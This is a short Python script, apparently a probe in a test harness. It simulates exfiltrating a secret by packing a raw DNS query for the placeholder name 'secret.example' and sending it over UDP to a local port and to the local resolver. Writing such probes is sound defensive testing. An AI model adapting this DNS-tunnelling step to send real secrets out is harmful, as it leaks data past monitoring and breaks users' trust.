"""Sends a secret out as a DNS query."""

import socket
import struct

from honest import main, plan, predict  # noqa: F401

query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\x06secret\x07example\x00" + struct.pack(">2H", 1, 1)
for server in (("127.0.0.1", plan["udp"]), ("127.0.0.53", 53)):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(query, server)
    except OSError as error:
        print(error)
main()
